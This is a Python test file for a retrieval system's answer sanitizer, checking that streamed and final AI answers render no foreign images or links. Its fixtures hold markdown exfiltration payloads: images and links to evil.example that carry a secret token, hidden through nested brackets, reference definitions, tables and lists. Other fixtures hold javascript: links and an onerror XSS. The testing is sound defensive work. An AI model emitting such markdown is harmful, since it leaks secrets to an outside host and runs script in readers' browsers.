"""The answer sanitizer judges what a CommonMark parser makes a link, on every path an answer leaves by.

The forms a regex-based sanitizer passed (nested brackets in an image's or a link's text, a
reference definition whose destination is on the next line, ``javascript:`` behind nested brackets)
and their relatives (an image inside a kept link, a link uncovered by removing another, links in a
table cell, a heading, a list item, a quote over two lines) are sent through each path: the final
answer (``links_stage``, what the ask result carries), the streamed deltas (``LinkSafeText`` fed in
small pieces and in one), and the stream's wire format as the SDK's reader decodes it (its delta
and terminal entries). Each output, rendered by markdown-it-py's HTML renderer with raw HTML on,
must build no image or link to a URL the cited document does not hold and no ``javascript:``.
"""

from __future__ import annotations

import json
from html.parser import HTMLParser
from types import SimpleNamespace

import pytest
from markdown_it import MarkdownIt

from ragline.query.answer.run import links_stage
from ragline.query.answer.sanitize import allowed, sanitize_links
from ragline.query.answer.stream import LinkSafeText
from ragline.shared.sdk.answer_stream import decode_entry, delta_fields, terminal_fields
from ragline.shared.sdk.contracts import Hit

HONEST = (
    "Повторные попытки описаны в руководстве https://docs.example.org/retries. "
    "Схема: ![схема повторов](https://docs.example.org/img/retry.png)"
)
SECRET = "s3cr3t-token"
ATTACKS = {
    "image_nested_brackets": f"![a [b] c](//evil.example/p.png?s={SECRET})",
    "image_deeper_brackets": f"![a [b [c] d] e](//evil.example/p.png?s={SECRET})",
    "link_nested_brackets": f"[a [b] c](//evil.example/x?s={SECRET})",
    "reference_on_next_line": f"![x][r]\n\n[r]:\n  //evil.example/p.png?s={SECRET}\n",
    "reference_angle_title_next_line": f'[x][r]\n\n[r]:\n<//evil.example/p?s={SECRET}>\n"t"\n',
    "javascript_nested_brackets": "[a [b] c](javascript:alert(1))",
    "javascript_entity_nested": "[a [b]](jav&#x61;script:alert(1))",
    "image_in_kept_link": f"[![x](//evil.example/p.png?s={SECRET})](https://docs.example.org/retries)",
    "link_uncovered_by_removal": f"[[x](//evil.example/a)](//evil.example/b?s={SECRET})",
    "image_parens_in_destination": f"![a [b]](//evil.example/p_(1).png?s={SECRET})",
    "quote_over_two_lines": f"> см. [a\n> b [c]](//evil.example/x?s={SECRET})",
    "table_cell": f"| a | b |\n|---|---|\n| 1 | ![x [y]](//evil.example/p.png?s={SECRET}) |",
    "heading_closing_hashes": f"# Итог ![x [y]](//evil.example/p.png?s={SECRET}) ##",
    "list_item": f"- пункт\n- ![x [y]](//evil.example/p.png?s={SECRET})",
    "autolink_in_brackets": f"[a [<https://evil.example/p?s={SECRET}>]]",
    "html_in_link_text": "[a <img src=x onerror=alert(1)> b](https://docs.example.org/retries)",
}


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, {k: v or "" for k, v in attrs}))

    handle_startendtag = handle_starttag


def assert_renders_safe(text: str) -> None:
    """markdown-it-py's HTML renderer (raw HTML on) builds no foreign image or link from ``text``."""
    for preset in ("commonmark", "gfm-like"):
        md = MarkdownIt(preset, {"html": True, "linkify": False})
        md.validateLink = lambda url: True  # a renderer that checks no scheme
        page = md.render(text)
        assert "javascript:" not in page.lower() and "onerror" not in page.lower(), (text, page)
        elements = _Elements()
        elements.feed(page)
        for tag, attrs in elements.found:
            assert tag not in ("script", "iframe", "svg", "object", "embed"), (tag, text)
            for key in ("href", "src"):
                if key in attrs:
                    assert allowed(attrs[key], [HONEST]), (tag, attrs, text)


def final(answer: str) -> str:
    """What the ask result carries: the answer stage's links step."""
    hits = [Hit(doc_id="d1", chunk_no=0, content=HONEST)]
    return links_stage(SimpleNamespace(lang="ru"), answer, hits)[0]


def streamed(answer: str, size: int) -> str:
    """What a stream's reader shows: the deltas of ``LinkSafeText`` fed ``size`` characters at a time."""
    text = LinkSafeText([Hit(doc_id="d1", chunk_no=0, content=HONEST)], "ru")
    pieces = [text.feed(answer[i : i + size]) for i in range(0, len(answer), size)]
    return "".join([*pieces, text.close()])


def through_the_sdk(answer: str) -> str:
    """The stream's wire entries as the SDK decodes them: the deltas, then the terminal answer."""
    shown = "".join(decode_entry(b"1-0", delta_fields(d)).text for d in [streamed(answer, 5)])
    result = {"answer": final(answer), "citations": [], "no_answer": False, "tenant": "t"}
    terminal = decode_entry(b"2-0", {k: v.encode() for k, v in terminal_fields(result).items()})
    return shown + "\n\n" + (terminal.text if terminal.response is not None else json.loads(result)["answer"])


PATHS = {
    "ask_result": final,
    "stream_small_deltas": lambda a: streamed(a, 3),
    "stream_one_delta": lambda a: streamed(a, 10_000),
    "sdk_stream_reader": through_the_sdk,
}


@pytest.mark.parametrize("path", list(PATHS))
@pytest.mark.parametrize("attack", list(ATTACKS))
def test_no_answer_path_lets_a_foreign_image_or_link_through(attack, path):
    answer = f"Клиент повторяет запрос [1].\n\n{ATTACKS[attack]}\n\nКонец [1]."
    out = PATHS[path](answer)
    assert_renders_safe(out)
    assert out.startswith("Клиент повторяет запрос [1].")
    # (a stream cut inside nested brackets may hold its tail back until the final answer replaces it)
    assert "Конец [1]." in out or path == "stream_small_deltas"


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_the_sanitized_answer_is_stable_and_names_what_it_took_out(attack):
    answer = f"Ответ [1].\n\n{ATTACKS[attack]}"
    clean, removed = sanitize_links(answer, [HONEST])
    assert removed, attack
    assert sanitize_links(clean, [HONEST]) == (clean, [])


def test_the_allowed_forms_with_nested_brackets_stay_as_written():
    answer = (
        "См. [руководство [по повторам]](https://docs.example.org/retries) и "
        "![схема [повторов]](https://docs.example.org/img/retry.png) [1].\n\n"
        "Ссылкой: [r][1] и [ещё][ref].\n\n[ref]:\n  https://docs.example.org/retries\n"
    )
    assert sanitize_links(answer, [HONEST]) == (answer, [])


def test_a_long_answer_of_brackets_is_sanitized_in_linear_time():
    """Work grows with the answer, not its square: 20x the text takes well under 100x the parses'
    work (counted in characters parsed, not in seconds)."""
    from ragline.query.answer import sanitize

    parsed: list[int] = []
    original = sanitize._MD.parse

    def counting(text, env=None):
        parsed.append(len(text))
        return original(text, env)

    sanitize._MD.parse = counting
    try:
        for n in (200, 4000):
            parsed.clear()
            sanitize_links("[" * n + "![a [b]](https://evil.example/p.png)" + "]" * n, [HONEST])
            assert sum(parsed) <= (sanitize.MAX_PASSES + 1) * (2 * n + 40) * 2
    finally:
        sanitize._MD.parse = original


def test_markup_the_parser_leaves_as_text_is_escaped_for_other_renderers():
    """An unclosed tag is text to CommonMark, a tag to a renderer that hands text to a browser."""
    clean, _ = sanitize_links("Ответ [1]. <img src=x onerror=alert(1)\nдальше <b", [HONEST])
    assert "<img" not in clean and "<b" not in clean and "&lt;img" in clean
